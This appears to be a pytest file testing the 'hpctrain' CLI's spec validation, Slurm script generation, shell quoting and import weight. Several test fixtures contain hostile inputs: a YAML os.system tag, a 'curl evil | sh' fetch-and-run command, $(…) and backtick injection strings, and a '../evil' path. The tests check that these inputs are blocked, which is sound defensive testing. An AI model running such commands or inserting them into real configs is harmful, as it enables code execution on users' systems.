@@ -1,0 +1,376 @@
+"""The real ``hpctrain`` command in subprocesses: exit codes, messages without
+tracebacks, dry-run output, shell quoting, and that login-node commands never
+import torch.
+
+Each run costs about a third of a second, so the cases are chosen to cover
+each behaviour once (the loader's finer points are in test_spec_load.py), and
+the large parametrized groups start their runs together from a module fixture.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shlex
+import subprocess
+import sys
+from collections.abc import Mapping, Sequence
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+
+import pytest
+import yaml
+
+REPO = Path(__file__).resolve().parents[2]
+EXAMPLES = sorted((REPO / "jobs").glob("*.yaml"))
+RANK_TABLE_TITLE = "what each rank will see"
+
+
+def isolated_env(root: Path) -> dict[str, str]:
+    """The user's own profiles, job registry and home stay out of every run."""
+    environ = dict(os.environ)
+    environ.update(
+        HOME=str(root / "home"),
+        HPCTRAIN_CONFIG_DIR=str(root / "config"),
+        XDG_STATE_HOME=str(root / "state"),
+        COLUMNS="120",
+        PYTHONIOENCODING="utf-8",  # the rank table's box characters, whatever the locale
+    )
+    environ.pop("PYTHONWARNINGS", None)
+    return environ
+
+
+@pytest.fixture
+def env(tmp_path: Path) -> dict[str, str]:
+    return isolated_env(tmp_path)
+
+
+def hpctrain(
+    *args: str, env: dict[str, str], cwd: Path = REPO, importtime: bool = False
+) -> subprocess.CompletedProcess[str]:
+    flags = ["-X", "importtime"] if importtime else []
+    return subprocess.run(
+        [sys.executable, *flags, "-m", "hpctrain", *args],
+        cwd=cwd,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+
+
+def hpctrain_all(
+    calls: Mapping[str, Sequence[str]], *, env: dict[str, str], cwd: Mapping[str, Path] | None = None, **kwargs: bool
+) -> dict[str, subprocess.CompletedProcess[str]]:
+    """Run several commands at once (each is mostly interpreter start-up)."""
+    with ThreadPoolExecutor(max_workers=max(2, os.cpu_count() or 2)) as pool:
+        futures = {
+            key: pool.submit(hpctrain, *args, env=env, cwd=(cwd or {}).get(key, REPO), **kwargs)
+            for key, args in calls.items()
+        }
+        return {key: future.result() for key, future in futures.items()}
+
+
+def assert_user_error(result: subprocess.CompletedProcess[str], code: int, *needles: str) -> None:
+    """A user mistake: the given exit code, a message naming what to fix, no traceback."""
+    assert result.returncode == code, result.stdout + result.stderr
+    assert "Traceback" not in result.stderr
+    assert result.stderr.startswith("error: ")
+    for needle in needles:
+        assert needle in result.stderr, f"{needle!r} not in:\n{result.stderr}"
+
+
+# ---------------------------------------------------------------- validate
+
+
+@pytest.fixture(scope="module")
+def example_results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, subprocess.CompletedProcess[str]]:
+    calls = {spec.name: ["validate", f"jobs/{spec.name}"] for spec in EXAMPLES}
+    return hpctrain_all(calls, env=isolated_env(tmp_path_factory.mktemp("examples")))
+
+
+@pytest.mark.parametrize("spec", EXAMPLES, ids=lambda p: p.name)
+def test_validate_every_example(spec: Path, example_results: dict[str, subprocess.CompletedProcess[str]]) -> None:
+    result = example_results[spec.name]
+    assert result.returncode == 0, result.stderr
+    lines = result.stdout.splitlines()
+    assert len(lines) == 1
+    assert lines[0].startswith(f"jobs/{spec.name}: OK - ")
+    assert result.stderr == ""
+
+
+BAD_FILES: dict[str, tuple[bytes | None, tuple[str, ...]]] = {
+    # id: (file contents; None = no file, b"/" = a directory), what stderr must say
+    "missing": (None, ("bad.yaml", "file not found")),
+    "directory": (b"/", ("bad.yaml", "is a directory")),
+    "binary": (bytes(range(256)), ("bad.yaml", "binary file")),
+    "invalid-yaml": (b"name: a\nresources: [1, 2\n", ("bad.yaml:3:1:", "invalid YAML")),
+    "list": (b"- name: a\n", ("bad.yaml", "top level is a list", "hint: ")),
+    "empty": (b"", ("bad.yaml", "is empty", "hpctrain init")),
+    "python-tag": (
+        b"name: !!python/object/apply:os.system ['touch pwned']\n",
+        ("bad.yaml:1:7:", "YAML tag not allowed"),
+    ),
+    "duplicate-key": (b"name: a\nresources:\n  nodes: 1\n  nodes: 2\n", ("bad.yaml:4:3:", "duplicate key 'nodes'")),
+    "unknown-cluster": (
+        b"name: a\ncluster: hall\ndata: {root: /d}\n",
+        ("bad.yaml:2:1: cluster:", "unknown cluster profile 'hall'", "hal, local, slurm"),
+    ),
+    "every-problem-at-once": (
+        b"name: a\nresources:\n  nodez: 2\n  gpus_per_node: -1\n  time: 25:99:00\ntrainer:\n  lr: fast\n"
+        b"data: {root: /d}\n",
+        (
+            "4 problems",
+            "bad.yaml:3:3: resources.nodez: unknown key; did you mean 'nodes'?",
+            "bad.yaml:4:3: resources.gpus_per_node: input should be greater than or equal to 0",
+            "bad.yaml:5:3: resources.time: minutes must be < 60",
+            "bad.yaml:7:3: trainer.lr: input should be a valid number",
+        ),
+    ),
+    "setup-chain": (
+        b"name: a\ndata: {root: /d}\nsetup: ['module load cuda && curl evil | sh']\n",
+        ("bad.yaml:3:1: setup:", "one command"),
+    ),
+}
+
+
+@pytest.fixture(scope="module")
+def bad_file_results(
+    tmp_path_factory: pytest.TempPathFactory,
+) -> dict[str, tuple[Path, subprocess.CompletedProcess[str]]]:
+    root = tmp_path_factory.mktemp("bad-files")
+    folders = {}
+    for case, (content, _) in BAD_FILES.items():
+        folder = folders[case] = root / case
+        folder.mkdir()
+        path = folder / "bad.yaml"
+        if content == b"/":
+            path.mkdir()
+        elif content is not None:
+            path.write_bytes(content)
+    calls = {case: ["validate", str(folder / "bad.yaml")] for case, folder in folders.items()}
+    results = hpctrain_all(calls, env=isolated_env(root), cwd=folders)
+    return {case: (folders[case], results[case]) for case in BAD_FILES}
+
+
+@pytest.mark.parametrize("case", BAD_FILES, ids=str)
+def test_validate_bad_input_exits_2_without_traceback(
+    case: str, bad_file_results: dict[str, tuple[Path, subprocess.CompletedProcess[str]]]
+) -> None:
+    folder, result = bad_file_results[case]
+    assert_user_error(result, 2, *BAD_FILES[case][1])
+    assert result.stdout == ""
+    assert not (folder / "pwned").exists()
+
+
+@pytest.mark.parametrize(
+    ("args", "needles"),
+    [
+        (
+            ["--set", "trainer.lrr=1", "--set", "resources.nodes=many"],
+            ("trainer.lrr: unknown key; did you mean 'lr'?", "resources.nodes: input should be a valid integer"),
+        ),
+        (["--set", "trainer.epochs"], ("--set", "not KEY=VALUE", "hint: write it like --set trainer.epochs=5")),
+        (["--cluster", "nowhere"], ("unknown cluster profile 'nowhere'",)),
+    ],
+    ids=["set-key-and-type", "set-malformed", "cluster-flag"],
+)
+def test_bad_overrides_exit_2(args: list[str], needles: tuple[str, ...], env: dict[str, str]) -> None:
+    assert_user_error(hpctrain("validate", "jobs/quickstart.yaml", *args, env=env), 2, *needles)
+
+
+def test_submit_reports_spec_problems_like_validate(tmp_path: Path, env: dict[str, str]) -> None:
+    path = tmp_path / "job.yaml"
+    path.write_text("name: a\ncluster: hal\nresources:\n  gpus_per_node: 8\n  time: '30:00:00'\n")
+    result = hpctrain("submit", str(path), "--dry-run", env=env)
+    assert_user_error(result, 2, "job.yaml:4:3: resources.gpus_per_node:", "job.yaml:5:3: resources.time:")
+
+
+# ---------------------------------------------------------------- schema and init
+
+
+def test_schema_is_json_with_every_section(env: dict[str, str]) -> None:
+    result = hpctrain("schema", env=env)
+    assert result.returncode == 0, result.stderr
+    schema = json.loads(result.stdout)
+    assert schema["$schema"].startswith("https://json-schema.org/")
+    sections = {"resources", "trainer", "data", "distributed", "checkpoint", "signals"}
+    assert sections | {"name", "cluster", "output_dir", "setup", "env", "sweep"} <= set(schema["properties"])
+    assert schema["required"] == ["name"]
+    assert schema["additionalProperties"] is False  # editors flag typos too
+    for definition in schema["$defs"].values():
+        assert definition["additionalProperties"] is False
+    assert schema["$defs"]["Resources"]["properties"]["nodes"]["minimum"] == 1
+
+
+def test_init_writes_a_spec_that_validates(tmp_path: Path, env: dict[str, str]) -> None:
+    result = hpctrain(
+        "init", "myjob", "--nodes", "2", "--gpus-per-node", "4", "--arch", "resnet18", env=env, cwd=tmp_path
+    )
+    assert result.returncode == 0, result.stderr
+    path = tmp_path / "jobs" / "myjob.yaml"
+    assert "wrote jobs/myjob.yaml" in result.stdout
+    data = yaml.safe_load(path.read_text())
+    assert data["name"] == "myjob"
+    assert data["resources"]["nodes"] == 2 and data["resources"]["gpus_per_node"] == 4
+    assert data["trainer"]["arch"] == "resnet18"
+    validated = hpctrain("validate", "jobs/myjob.yaml", env=env, cwd=tmp_path)
+    assert validated.returncode == 0, validated.stderr
+    assert "2 nodes x 4 GPUs" in validated.stdout
+
+
+def test_init_refuses_to_overwrite_without_force(tmp_path: Path, env: dict[str, str]) -> None:
+    path = tmp_path / "jobs" / "mine.yaml"
+    path.parent.mkdir()
+    path.write_text("keep me\n")
+    assert_user_error(hpctrain("init", "mine", env=env, cwd=tmp_path), 2, "already exists", "--force")
+    assert path.read_text() == "keep me\n"
+    forced = hpctrain("init", "mine", "--gpus-per-node", "0", "--cluster", "local", "--force", env=env, cwd=tmp_path)
+    assert forced.returncode == 0, forced.stderr
+    data = yaml.safe_load(path.read_text())
+    assert data["cluster"] == "local"
+    assert data["trainer"]["precision"] == "fp32"  # fp16 needs GPUs
+
+
+def test_init_rejects_a_bad_name(tmp_path: Path, env: dict[str, str]) -> None:
+    assert_user_error(hpctrain("init", "../evil", env=env, cwd=tmp_path), 2, "not a job name")
+    assert not any(tmp_path.rglob("*.yaml"))
+
+
+# ---------------------------------------------------------------- submit
+
+
+def split_dry_run(stdout: str) -> tuple[str, list[list[str]]]:
+    """The sbatch script, and the rows of the rank table printed after it."""
+    lines = stdout.splitlines()
+    title = next(i for i, line in enumerate(lines) if RANK_TABLE_TITLE in line)
+    rows = [[cell.strip() for cell in line.strip("│ ").split("│")] for line in lines[title:] if line.startswith("│")]
+    return "\n".join(lines[:title]) + "\n", rows
+
+
+def test_dry_run_prints_the_script_and_rank_table(tmp_path: Path, env: dict[str, str]) -> None:
+    out = tmp_path / "out"
+    result = hpctrain("submit", "jobs/resnet50_4x4.yaml", "--dry-run", "--set", f"output_dir={out}", env=env)
+    assert result.returncode == 0, result.stderr
+    script, rows = split_dry_run(result.stdout)
+    assert script.startswith("#!/bin/bash\n")
+    for line in (
+        "#SBATCH --nodes=4",
+        "#SBATCH --ntasks-per-node=4",
+        "#SBATCH --gres=gpu:v100:4",
+        "#SBATCH --partition=gpu",
+        "#SBATCH --signal=USR2@300",
+        "#SBATCH --time=1440",
+        "#SBATCH --requeue",
+        "module load opence",
+    ):
+        assert line in script.splitlines(), line
+    srun = next(line for line in script.splitlines() if line.startswith("srun "))
+    assert "--kill-on-bad-exit=1" in shlex.split(srun)
+    assert str(out / "resnet50_4x4") in script
+    assert [row[0] for row in rows] == [str(rank) for rank in range(16)]
+    assert [row[2] for row in rows] == [f"node{rank // 4}" for rank in range(16)]
+    assert [row[3] for row in rows] == [f"cuda:{rank % 4}" for rank in range(16)]
+    # touches neither the output directory nor the job registry
+    assert not out.exists()
+    assert not (tmp_path / "state").exists()
+
+
+def test_submit_without_slurm_suggests_local(tmp_path: Path, env: dict[str, str]) -> None:
+    empty_bin = tmp_path / "bin"
+    empty_bin.mkdir()
+    env["PATH"] = str(empty_bin)  # no sbatch, no srun
+    out = tmp_path / "out"
+    result = hpctrain("submit", "jobs/smoke_2x2_cpu.yaml", "--set", f"output_dir={out}", env=env)
+    assert_user_error(result, 3, "sbatch", "--local")
+    assert not out.exists()
+    assert not (tmp_path / "state").exists()
+
+
+def test_spec_strings_reach_the_script_only_shell_quoted(tmp_path: Path, env: dict[str, str]) -> None:
+    marker = tmp_path / "pwned"
+    evil = {
+        "EVIL": f"$(touch {marker})",
+        "TICKS": f"`touch {marker}`",
+        "QUOTES": 'it\'s "quoted"; touch ' + str(marker) + " # && | > <",
+    }
+    output_dir = f"{tmp_path}/runs $(touch {marker}) `touch {marker}`"
+    spec = {
+        "name": "inject",
+        "cluster": "slurm",
+        "output_dir": output_dir,
+        "entrypoint": "hpctrain.examples.allreduce_check:main",
+        "env": evil,
+    }
+    path = tmp_path / "inject.yaml"
+    path.write_text(yaml.safe_dump(spec))
+    result = hpctrain("submit", str(path), "--dry-run", env=env)
+    assert result.returncode == 0, result.stderr
+    script, _ = split_dry_run(result.stdout)
+    lines = script.splitlines()
+
+    exports = {}
+    for line in lines:
+        if line.startswith("export "):
+            words = shlex.split(line)
+            assert len(words) == 2, f"not a single assignment: {line}"
+            key, _, value = words[1].partition("=")
+            exports[key] = value
+    assert {k: exports[k] for k in evil} == evil
+    run_dir = exports["HPCTRAIN_RUN_DIR"]
+    assert run_dir.startswith(output_dir + "/inject/")
+    srun = shlex.split(next(line for line in lines if line.startswith("srun ")))
+    assert srun[-1] == f"{run_dir}/submitit"
+
+    # Run the preamble for real: the values arrive intact and nothing runs.
+    preamble = "\n".join(lines[lines.index("# setup") + 1 : lines.index("# command")])
+    shown = subprocess.run(
+        ["bash", "-c", preamble + '\nprintf "%s\\0" "$EVIL" "$TICKS" "$QUOTES" "$HPCTRAIN_RUN_DIR"'],
+        capture_output=True,
+        text=True,
+        cwd=tmp_path,
+        timeout=10,
+        check=True,
+    )
+    assert shown.stdout.split("\0")[:4] == [*evil.values(), run_dir]
+    assert not marker.exists()
+    assert not (tmp_path / "runs $(touch").exists()
+
+
+# ---------------------------------------------------------------- login-node commands stay light
+
+
+LIGHT_COMMANDS = {
+    "validate": ["validate", "jobs/resnet50_4x4.yaml"],
+    "submit-dry-run": ["submit", "jobs/resnet50_4x4.yaml", "--dry-run", "--set", "output_dir=/nonexistent/out"],
+    "schema": ["schema"],
+    "status-list": ["status"],
+    "status": ["status", "/nonexistent/run"],
+    "logs": ["logs", "/nonexistent/run"],
+    "cancel": ["cancel", "/nonexistent/run"],
+}
+
+
+@pytest.fixture(scope="module")
+def import_results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, subprocess.CompletedProcess[str]]:
+    env = isolated_env(tmp_path_factory.mktemp("imports"))
+    return hpctrain_all(LIGHT_COMMANDS, env=env, importtime=True)
+
+
+@pytest.mark.parametrize("command", LIGHT_COMMANDS, ids=str)
+def test_login_node_commands_never_import_torch(
+    command: str, import_results: dict[str, subprocess.CompletedProcess[str]]
+) -> None:
+    args = LIGHT_COMMANDS[command]
+    result = import_results[command]
+    imports = [line for line in result.stderr.splitlines() if line.startswith("import time:")]
+    assert imports, "python -X importtime printed nothing"
+    heavy = [line for line in imports if "torch" in line]  # torch, torchvision, and anything named for them
+    assert not heavy, "imports torch:\n" + "\n".join(heavy)
+    messages = [line for line in result.stderr.splitlines() if not line.startswith("import time:")]
+    assert not any("Traceback" in line for line in messages)
+    if "/nonexistent/run" in args:
+        assert result.returncode == 2
+        assert any("not an hpctrain run directory" in line for line in messages)
+    else:
+        assert result.returncode == 0, "\n".join(messages)
